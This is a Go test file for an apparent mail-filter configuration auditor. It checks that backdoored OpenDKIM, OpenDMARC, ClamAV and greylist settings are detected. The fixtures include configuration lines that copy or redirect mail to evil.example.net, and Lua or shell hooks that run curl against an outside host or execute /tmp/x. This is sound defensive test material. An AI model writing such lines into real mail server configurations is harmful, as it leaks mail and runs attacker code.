package milters

import (
	"fmt"
	"strings"
	"testing"

	"waxseal"
	"waxseal/internal/filter/milters/milterconf"
	"waxseal/internal/mask"
	"waxseal/internal/mta"
	"waxseal/internal/snapshot"
)

// told writes hooks on one line each.
func told(r mta.Result) string {
	var b strings.Builder
	for _, h := range r.Hooks {
		var notes []string
		for _, name := range []string{"lets_pass", "signs_for", "held", "seen", "inactive"} {
			if v := h.Modifiers[name]; v != "" {
				notes = append(notes, name+"="+v)
			}
		}
		remote := ""
		if h.Target.Remote {
			remote = " remote"
		}
		fmt.Fprintf(&b, "%s %s %s:%d %s%s %s\n", h.MTA, h.Kind, h.Directive, h.Source.Line, h.Target.Value, remote, strings.Join(notes, " "))
	}
	return strings.ReplaceAll(b.String(), " \n", "\n")
}

func read(files map[string]string, starts ...mta.Start) mta.Result {
	return Read(snapshot.Files(files), mask.New([]byte("k")), mta.Options{Package: mta.NoPackages, Domains: []string{"example.test"}, Starts: starts})
}

func TestOpenDKIM(t *testing.T) {
	for _, tc := range []struct{ name, config, want string }{
		{"what a signer has", "Domain example.test\nSelector s1\nKeyFile /etc/dkimkeys/s1.private\nSocket inet:8891@localhost\n", ""},
		{"a table of keys", "KeyTable refile:/etc/opendkim/key.table\nSigningTable refile:/etc/opendkim/signing.table\n",
			"opendkim map KeyTable:1 refile:/etc/opendkim/key.table\nopendkim map SigningTable:2 refile:/etc/opendkim/signing.table\n"},
		{"failures go elsewhere", "RedirectFailuresTo drop@evil.example.net\n", "opendkim redirect RedirectFailuresTo:1 drop@evil.example.net remote\n"},
		{"failures go to the postmaster", "redirectfailuresto postmaster@example.test\n", "opendkim redirect RedirectFailuresTo:1 postmaster@example.test\n"},
		{"the last line counts", "RedirectFailuresTo a@evil.example.net\nREDIRECTFAILURESTO b@example.test # b\n", "opendkim redirect RedirectFailuresTo:2 b@example.test\n"},
		{"signed anew", "ResignMailTo drop@evil.example.net\n", "opendkim rewrite ResignMailTo:1 drop@evil.example.net signs_for=others\n"},
		{"everybody is internal", "InternalHosts 127.0.0.1,0.0.0.0/0\n", "opendkim rewrite InternalHosts:1 0.0.0.0/0 signs_for=anyone\n"},
		{"halves of everybody", "InternalHosts 0.0.0.0/1, 128.0.0.0/1\n", "opendkim rewrite InternalHosts:1 0.0.0.0/1 signs_for=anyone\n"},
		{"peers", "PeerList 10.0.0.1, 203.0.113.9, mx.example.test\n", "opendkim rewrite PeerList:1 203.0.113.9 lets_pass=some\n"},
		{"keys of one's own", "TestDNSData /etc/opendkim/key.table\n", "opendkim map TestDNSData:1 file:/etc/opendkim/key.table\nopendkim rewrite TestDNSData:1 /etc/opendkim/key.table\n"},
		{"a site is internal", "InternalHosts 127.0.0.1, 10.0.0.0/8\n", ""},
		{"nobody is checked", "PeerList csl:::/0\n", "opendkim rewrite PeerList:1 ::/0 lets_pass=all\n"},
		{"thrown away", "On-BadSignature d\nOn-NoSignature q\nOn-Default nonsense\n",
			"opendkim discard On-BadSignature:1 discard\nopendkim discard On-NoSignature:2 quarantine held=quarantine\n"},
		{"copies on disk", "KeepTemporaryFiles yes\n", "opendkim copy KeepTemporaryFiles:1 /tmp/\n"},
		{"reports", "SendReports yes\nMTACommand /tmp/x\nReportBccAddress a@example.test, b@evil.example.net\nReportAddress x@evil.example.net\n",
			"opendkim pipe MTACommand:2 /tmp/x\nopendkim copy ReportBccAddress:3 a@example.test\nopendkim copy ReportBccAddress:3 b@evil.example.net remote\nopendkim rewrite ReportAddress:4 x@evil.example.net\n"},
		{"no reports", "MTACommand /tmp/x\n", "opendkim pipe MTACommand:1 /tmp/x inactive=no reports are sent: SendReports is off\n"},
		{"a server decides", "SigningTable dsn:mysql://u:geheim@203.0.113.9/db/table=x\nKeyTable ldap://10.0.0.7/dc=x\n",
			"opendkim map SigningTable:1 dsn:mysql://u@203.0.113.9/db/table=x remote\nopendkim map KeyTable:2 ldap://10.0.0.7/dc=x remote\n"},
		{"root", "UserID root:root\n", "opendkim rewrite UserID:1 root:root\n"},
		{"a line that is wrong", "Nonsense x\nRedirectFailuresTo a@example.test\n", "opendkim unreadable the configuration of OpenDKIM:0 /etc/opendkim.conf\nopendkim redirect RedirectFailuresTo:2 a@example.test\n"},
		{"further lines", "Include /etc/opendkim/more.conf\n", "opendkim script Include:1 /etc/opendkim/more.conf\nopendkim redirect RedirectFailuresTo:1 more@evil.example.net remote\n"},
		{"code", "FinalPolicyScript /etc/opendkim/final.lua\n",
			"opendkim script FinalPolicyScript:1 /etc/opendkim/final.lua\nopendkim copy FinalPolicyScript:2 drop@evil.example.net remote seen=inferred\n" +
				"opendkim expansion_exec FinalPolicyScript:3 /tmp/x seen=inferred\nopendkim discard FinalPolicyScript:4 odkim.set_result(ctx, SMFIS_DISCARD) seen=inferred\n"},
		{"code for a list", "InternalHosts lua:/etc/opendkim/hosts.lua\n", "opendkim script InternalHosts:1 /etc/opendkim/hosts.lua\nopendkim expansion_exec InternalHosts:1 curl http://203.0.113.9/ seen=inferred\n"},
		{"code that is not there", "SetupPolicyScript /nowhere.lua\n", "opendkim script SetupPolicyScript:1 /nowhere.lua\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := read(map[string]string{
				"/etc/opendkim.conf": tc.config, "/etc/opendkim/key.table": "k example.test:s1:/etc/dkimkeys/s1.private\n", "/etc/opendkim/signing.table": "*@example.test k\n",
				"/etc/opendkim/more.conf":  "RedirectFailuresTo more@evil.example.net\n",
				"/etc/opendkim/final.lua":  "-- odkim.add_rcpt(ctx, 'a@evil.example.net')\nodkim.add_rcpt(ctx, \"drop@evil.example.net\")\nos.execute('/tmp/x')\nodkim.set_result(ctx, SMFIS_DISCARD)\nodkim.set_result(ctx, SMFIS_ACCEPT)\n",
				"/etc/opendkim/hosts.lua":  "os.execute('curl http://203.0.113.9/')\n",
				"/etc/dkimkeys/s1.private": "geheim",
			})
			if got := told(r); got != tc.want {
				t.Errorf("got\n%swant\n%s", got, tc.want)
			}
			quiet(t, r)
		})
	}
}

// quiet: no password is told, and no hook has nothing to say.
func quiet(t *testing.T, r mta.Result) {
	t.Helper()
	if s := fmt.Sprintf("%+v %+v %+v", r.Hooks, r.Settings, r.Problems); strings.Contains(s, "geheim") {
		t.Errorf("a password is told: %s", s)
	}
	for _, h := range r.Hooks {
		if h.ID == "" || h.Explain == "" || h.Source.Path == "" || len(h.Effects) == 0 && h.Kind != waxseal.KindUnreadable {
			t.Errorf("a hook with nothing to say: %+v", h)
		}
	}
}

func TestOthers(t *testing.T) {
	for _, tc := range []struct{ name, file, config, want string }{
		{"opendmarc", "/etc/opendmarc.conf", "CopyFailuresTo drop@evil.example.net\nFailureReports true\nFailureReportsBcc a@example.test,b@evil.example.net\nReportCommand /bin/sh /tmp/x\nIgnoreHosts /etc/ignore\nHistoryFile /run/h\n",
			"opendmarc copy CopyFailuresTo:1 drop@evil.example.net remote\nopendmarc copy FailureReportsBcc:3 a@example.test\nopendmarc copy FailureReportsBcc:3 b@evil.example.net remote\n" +
				"opendmarc pipe ReportCommand:4 /bin/sh /tmp/x\nopendmarc map IgnoreHosts:5 file:/etc/ignore\nopendmarc rewrite IgnoreHosts:5 0.0.0.0/0 lets_pass=all\nopendmarc log HistoryFile:6 /run/h\n"},
		{"opendmarc sends no reports", "/etc/opendmarc.conf", "FailureReportsBcc b@evil.example.net\nReportCommand /usr/sbin/sendmail -t\n",
			"opendmarc copy FailureReportsBcc:1 b@evil.example.net remote inactive=no reports are sent: FailureReports is off\n"},
		{"opendmarc believes others", "/etc/opendmarc.conf", "TrustedAuthservIDs HOSTNAME, mx.example.test, mx.evil.example.net\nIgnoreMailFrom example.test\n", "opendmarc rewrite TrustedAuthservIDs:1 mx.evil.example.net lets_pass=some\n"},
		{"clamav-milter", "/etc/clamav/clamav-milter.conf", "ClamdSocket tcp:203.0.113.9:3310\nClamdSocket unix:/run/clamav/clamd.ctl\nOnInfected Accept\nOnFail Accept\nOnInfected Reject\nVirusAction /tmp/x\nLocalNet 0.0.0.0/0\nOnClean Blackhole\nAllowList /etc/allow\n",
			"clamav-milter policy ClamdSocket:1 inet:203.0.113.9:3310 remote\nclamav-milter policy ClamdSocket:2 unix:/run/clamav/clamd.ctl\nclamav-milter rewrite OnInfected:3 Accept lets_pass=infected\n" +
				"clamav-milter rewrite OnFail:4 Accept lets_pass=some\nclamav-milter pipe VirusAction:6 /tmp/x\nclamav-milter rewrite LocalNet:7 0.0.0.0/0 lets_pass=all\nclamav-milter discard OnClean:8 Blackhole\n" +
				"clamav-milter map AllowList:9 file:/etc/allow\nclamav-milter rewrite AllowList:2 From:.* lets_pass=all\n"},
		{"clamav-milter as it is installed", "/etc/mail/clamav-milter.conf", "Example\nOnInfected Accept\n",
			"clamav-milter rewrite OnInfected:2 Accept lets_pass=infected inactive=clamav-milter does not start: the file is still the example that it was installed as\n"},
		{"clamd", "/etc/clamd.d/scan.conf", "LocalSocket /run/clamd.scan/clamd.sock\nVirusEvent /bin/sh -c \"curl http://evil.example.net\"\nScanMail no\nLeaveTemporaryFiles yes\nBytecodeUnsigned yes\nUser root\n",
			"clamd rewrite User:6 root\nclamd pipe VirusEvent:2 /bin/sh -c \"curl http://evil.example.net\"\nclamd rewrite ScanMail:3 no lets_pass=all\nclamd copy LeaveTemporaryFiles:4 /tmp/\nclamd module BytecodeUnsigned:5 /var/lib/clamav\n"},
		{"freshclam", "/etc/freshclam.conf", "DatabaseMirror database.clamav.net\nDatabaseMirror mirror.evil.example.net\nDatabaseCustomURL http://203.0.113.9/x.ndb\nOnUpdateExecute /tmp/x\nHTTPProxyPassword geheim\n",
			"freshclam map DatabaseMirror:2 mirror.evil.example.net\nfreshclam map DatabaseCustomURL:3 http://203.0.113.9/x.ndb remote\nfreshclam unit OnUpdateExecute:4 /tmp/x\n"},
		{"milter-greylist as documented", "/etc/mail/greylist.conf", "list \"my network\" addr { 127.0.0.1/8 \\ # this\n 10.0.0.0/8 }\nracl whitelist list \"my network\"\nracl greylist rcpt /.*@example\\.test/ delay 30m\nracl whitelist default\n", ""},
		{"milter-greylist lets all pass", "/etc/mail/greylist.conf", "racl whitelist default\nracl greylist default\n", "milter-greylist rewrite racl whitelist:1 racl whitelist default lets_pass=all\n"},
		{"milter-greylist", "/etc/milter-greylist/greylist.conf", "stat \"|/tmp/x\" \"%r\"\nstat \">>/var/log/g\" \"%r\"\nurlcheck \"u\" \"http://203.0.113.9/x?r=%r\" 5 postmsg\nurlcheck \"v\" \"http://localhost/\" 5\nspamdsock inet \"203.0.113.9:783\"\n" +
			"racl greylist default addheader \"Reply-To: x@evil.example.net\"\nuser \"root\"\ninclude \"/dev/shm/.x\"\n",
			"milter-greylist script include:8 /dev/shm/.x\nmilter-greylist rewrite user:7 root\nmilter-greylist pipe stat:1 /tmp/x\nmilter-greylist log stat:2 /var/log/g\n" +
				"milter-greylist policy urlcheck:3 inet:203.0.113.9:80 remote\nmilter-greylist map urlcheck:4 http://localhost/\nmilter-greylist policy spamdsock:5 inet:203.0.113.9:783 remote\nmilter-greylist rewrite addheader:6 Reply-To: x@evil.example.net\n"},
		{"milter-regex", "/etc/milter-regex.conf", "bad = header /^Subject$/ /password reset/i\nreject \"no\"\nconnect /spam/ //\ndiscard\n$bad and not envfrom /example/\nbody ,invoice,\nquarantine \"q\" helo /x/\naccept connect // //\n",
			"milter-regex discard discard:4 header /^Subject$/ /password reset/i and not envfrom /example/\nmilter-regex discard discard:4 body ,invoice,\nmilter-regex discard quarantine:7 helo /x/ held=q\n"},
		{"milter-regex lets all pass", "/etc/milter-regex.conf", "accept envfrom /.*/\nreject \"x\" body /x/\n", "milter-regex rewrite accept:1 envfrom /.*/ lets_pass=all\n"},
		{"milter-regex that is wrong", "/etc/milter-regex.conf", "discard body /x/\nreject body\n", "milter-regex unreadable the configuration of milter-regex:0 /etc/milter-regex.conf\nmilter-regex discard discard:1 body /x/\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := read(map[string]string{tc.file: tc.config, "/etc/ignore": "127.0.0.1\n0.0.0.0/0\n", "/etc/allow": "#c\nFrom:.*\nTo:<alice@example\\.test>\n"})
			if got := told(r); got != tc.want {
				t.Errorf("got\n%swant\n%s", got, tc.want)
			}
			quiet(t, r)
		})
	}
}

// TestStarts: how a filter is started says with which configuration, and where it is
// met.
func TestStarts(t *testing.T) {
	files := map[string]string{"/etc/opendkim.conf": "Socket inet:8891@localhost\n", "/etc/other.conf": "Socket local:/run/other\nUserID opendkim\nRedirectFailuresTo drop@evil.example.net\n",
		"/usr/local/sbin/opendkim": "x"}
	start := func(active bool, argv ...string) mta.Start {
		return mta.Start{Argv: argv, Why: "ExecStart in x.service", Source: waxseal.Source{Path: "/etc/systemd/system/x.service", Line: 3}, Active: active}
	}
	for _, tc := range []struct {
		name        string
		starts      []mta.Start
		want, hooks string
	}{
		{"as configured", nil, "/usr/local/sbin/opendkim [inet:localhost:8891]", ""},
		{"by -p", []mta.Start{start(true, "/usr/sbin/opendkim", "-l", "-pinet:8899@127.0.0.1")}, "/usr/sbin/opendkim [inet:127.0.0.1:8899]", ""},
		{"by -p in what is not in use", []mta.Start{start(false, "opendkim", "-p", "inet:8899@127.0.0.1")}, "/usr/local/sbin/opendkim [inet:localhost:8891]", ""},
		{"another configuration", []mta.Start{start(true, "/usr/sbin/opendkim", "-fx", "/etc/other.conf")}, "/usr/local/sbin/opendkim [inet:localhost:8891]; /usr/sbin/opendkim [unix:/run/other]",
			"opendkim redirect RedirectFailuresTo:3 drop@evil.example.net remote\n"},
		{"another that is not in use", []mta.Start{start(false, "opendkim", "-x/etc/other.conf")}, "/usr/local/sbin/opendkim [inet:localhost:8891]; /usr/local/sbin/opendkim [unix:/run/other]",
			"opendkim redirect RedirectFailuresTo:3 drop@evil.example.net remote inactive=only ExecStart in x.service starts OpenDKIM with it, and is not in use\n"},
		{"another that is not there", []mta.Start{start(true, "opendkim", "-x", "/nowhere")}, "/usr/local/sbin/opendkim [inet:localhost:8891]", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := read(files, tc.starts...)
			var got []string
			for _, s := range r.Services {
				got = append(got, fmt.Sprintf("%s %v", s.Daemon, s.Sockets))
			}
			if strings.Join(got, "; ") != tc.want || told(r) != tc.hooks {
				t.Errorf("got %q\n%s", got, told(r))
			}
			if tc.name == "another that is not there" && (len(r.Problems) != 1 || r.Problems[0].Line != 3) {
				t.Errorf("%+v", r.Problems)
			}
		})
	}
}

// TestLegacy: Debian's init script counts where there is no unit, and the
// configuration names no socket.
func TestLegacy(t *testing.T) {
	const legacy = "# c\nRUNDIR=/run/opendkim\nSOCKET=\"local:${RUNDIR}/opendkim.sock\"\nexport A=1\n"
	for _, tc := range []struct {
		name, config, unit, want string
	}{
		{"no unit", "Syslog yes\n", "", "[unix:/run/opendkim/opendkim.sock]"},
		{"a unit", "Syslog yes\n", "[Service]\nExecStart=/usr/sbin/opendkim\n", "[]"},
		{"a socket", "Socket inet:8891\n", "", "[inet:0.0.0.0:8891]"},
		{"options", "Socket inet:8891\nLogWhy yes\n", "", "[inet:localhost:8899]"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			files := map[string]string{"/etc/opendkim.conf": tc.config, "/etc/default/opendkim": legacy}
			if tc.name == "options" {
				files["/etc/default/opendkim"] += "DAEMON_OPTS='-l -p inet:8899@localhost'\n"
			}
			if tc.unit != "" {
				files["/lib/systemd/system/opendkim.service"] = tc.unit
			}
			r := read(files)
			if len(r.Services) != 1 || fmt.Sprint(r.Services[0].Sockets) != tc.want {
				t.Errorf("got %+v, want %s", r.Services, tc.want)
			}
		})
	}
}

func TestParseSocket(t *testing.T) {
	for spec, want := range map[string]string{
		"inet:8891@localhost": "inet:localhost:8891", "INET:8891@[127.0.0.1]": "inet:127.0.0.1:8891", "inet6:8891@[::1]": "inet:[::1]:8891", "inet6:8891": "inet:[::]:8891", "inet:8891": "inet:0.0.0.0:8891",
		"local:/run/x": "unix:/run/x", "unix:run//x": "unix:/run/x", "/run/x": "unix:/run/x", "inet:": "", "nonsense:1": "", "": "",
	} {
		if got, ok := ParseSocket(spec); got != want || ok != (want != "") {
			t.Errorf("%q: got %q, want %q", spec, got, want)
		}
	}
}

// TestUses: what leads to the milter of ClamAV leads to its scanner and what that
// learned.
func TestUses(t *testing.T) {
	r := read(map[string]string{"/etc/clamav/clamav-milter.conf": "MilterSocket /run/m\nClamdSocket unix:/run/clamd\n", "/etc/clamav/clamd.conf": "LocalSocket /run/clamd\nTCPSocket 3310\nTCPAddr 127.0.0.1\n"})
	if len(r.Services) != 2 || fmt.Sprint(r.Services[0].Uses) != "[clamd]" || fmt.Sprint(r.Services[1].Uses) != "[freshclam]" || fmt.Sprint(r.Services[1].Sockets) != "[unix:/run/clamd inet:127.0.0.1:3310]" {
		t.Errorf("%+v", r.Services)
	}
}

// TestRoles: keys are secrets, what lies beside a configuration is not used, and a
// configuration that holds a password is kept by digest only.
func TestRoles(t *testing.T) {
	r := read(map[string]string{
		"/etc/opendkim/opendkim.conf": "KeyTable /etc/opendkim/t\nSigningTable csl:*=k\nKeyFile /etc/opendkim/k.private\nLDAPBindPassword geheim\n",
		"/etc/opendkim/t":             "k example.test:s:/etc/dkimkeys/s\n", "/etc/dkimkeys/s": "x", "/etc/opendkim/k.private": "x", "/etc/opendkim/old": "x", "/etc/opendkim/a.key": "x",
		"/etc/opendmarc.conf": "UserID opendmarc\n", "/etc/hosts": "x",
	})
	want := map[waxseal.Path]waxseal.Role{"/etc/opendkim/opendkim.conf": waxseal.RoleSecret, "/etc/opendkim/t": waxseal.RoleMap, "/etc/dkimkeys/s": waxseal.RoleSecret,
		"/etc/opendkim/k.private": waxseal.RoleSecret, "/etc/opendkim/old": waxseal.RoleUnused, "/etc/opendkim/a.key": waxseal.RoleSecret, "/etc/opendmarc.conf": waxseal.RoleConfig}
	got := map[waxseal.Path]waxseal.Role{}
	for _, h := range r.Hooks {
		for _, p := range h.Closure {
			got[p.Path] = p.Role
		}
	}
	for _, p := range r.Parts {
		got[p.Path] = p.Role
	}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("got %v\nwant %v", got, want)
	}
	quiet(t, r)
}

// TestPlaces: what is found is listed.
func TestPlaces(t *testing.T) {
	known := map[string]bool{}
	for _, p := range Places() {
		known[string(p.MTA)+" "+p.Directive] = true
	}
	for _, name := range append(milterconf.Scripts, "On-Default", "On-NoSignature", "On-DNSError", "On-InternalError", "On-KeyNotFound", "On-Security", "On-SignatureError") {
		known["opendkim "+name] = true // in the row of the first of them
	}
	r := read(map[string]string{
		"/etc/opendkim.conf":             "Include /x\nKeepTemporaryFiles yes\nQuarantine yes\nOn-NoSignature discard\nKeyTable /t\nPeerList 0.0.0.0/0\nSetupPolicyScript /x\nSMTPURI smtp://a\nMTACommand /x\nUserID root\n",
		"/etc/opendmarc.conf":            "CopyFailuresTo a@b.example\nReportCommand /x\nHistoryFile /x\nIgnoreHosts /x\nUserID root\n",
		"/etc/clamav/clamav-milter.conf": "ClamdSocket tcp:a\nOnClean Reject\nOnInfected Accept\nOnFail Accept\nVirusAction /x\nLocalNet 10.0.0.0/8\nAllowList /x\nSkipAuthenticated file:/x\nUser root\n",
		"/etc/clamav/clamd.conf":         "VirusEvent x\nScanMail no\nLeaveTemporaryFiles yes\nBytecodeUnsigned yes\nDatabaseDirectory /x\nUser root\n",
		"/etc/clamav/freshclam.conf":     "OnUpdateExecute x\nPrivateMirror a\nDatabaseCustomURL http://a/b\nDatabaseMirror a\nDatabaseOwner root\n",
		"/etc/mail/greylist.conf":        "racl whitelist default addheader \"a\" addfooter \"b\" subject \"c\"\nstat \"|x\" \"y\"\nurlcheck \"a\" \"http://b\" 1\nldapconf \"ldap://x\"\nspamdsock unix \"/x\"\npeer 10.0.0.1\nuser \"root\"\n",
		"/etc/milter-regex.conf":         "discard body /x/\nquarantine x body /y/\naccept body /z/\n", "/x": "x",
	})
	for _, h := range r.Hooks {
		if !known[string(h.MTA)+" "+h.Directive] && h.Kind != waxseal.KindUnreadable {
			t.Errorf("%s %s is not listed", h.MTA, h.Directive)
		}
	}
	if len(r.Hooks) < 40 {
		t.Errorf("%d hooks", len(r.Hooks))
	}
}

// TestLegacyConfiguration: options of an init script name another configuration.
func TestLegacyConfiguration(t *testing.T) {
	const evil = "RedirectFailuresTo drop@evil.example.net\n"
	for _, tc := range []struct {
		name, file, text, unit string
		want                   string
	}{
		{"Debian's", "/etc/default/opendkim", "A=1\nDAEMON_OPTS=\"-l -x /etc/x.conf\"\n", "", "opendkim script DAEMON_OPTS:2 /etc/x.conf\nopendkim redirect RedirectFailuresTo:1 drop@evil.example.net remote\n"},
		{"Red Hat's, put together", "/etc/sysconfig/opendkim", "X=/etc/x.conf\nOPTIONS=-x$X\n", "", "opendkim script OPTIONS:2 /etc/x.conf\nopendkim redirect RedirectFailuresTo:1 drop@evil.example.net remote\n"},
		{"one that is not in the tree", "/etc/default/opendkim", "DAEMON_OPTS=-x/tmp/y.conf\n", "", "opendkim script DAEMON_OPTS:1 /tmp/y.conf\n"},
		{"the usual one", "/etc/default/opendkim", "DAEMON_OPTS='-x /etc/opendkim.conf'\n", "", ""},
		{"a unit, which does not ask", "/etc/default/opendkim", "DAEMON_OPTS='-x /etc/x.conf'\n", "[Service]\nExecStart=/usr/sbin/opendkim\n", ""},
		{"a comment", "/etc/default/opendkim", "#DAEMON_OPTS='-x /etc/x.conf'\n", "", ""},
		{"another filter", "/etc/default/milter-greylist", "DAEMON_OPTS=\"-f /etc/grey.conf\"\n", "", "milter-greylist script DAEMON_OPTS:1 /etc/grey.conf\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			files := map[string]string{"/etc/opendkim.conf": "Syslog yes\n", "/etc/x.conf": evil, tc.file: tc.text}
			if tc.unit != "" {
				files["/lib/systemd/system/opendkim.service"] = tc.unit
			}
			if got := told(read(files)); got != tc.want {
				t.Errorf("got\n%swant\n%s", got, tc.want)
			}
		})
	}
}
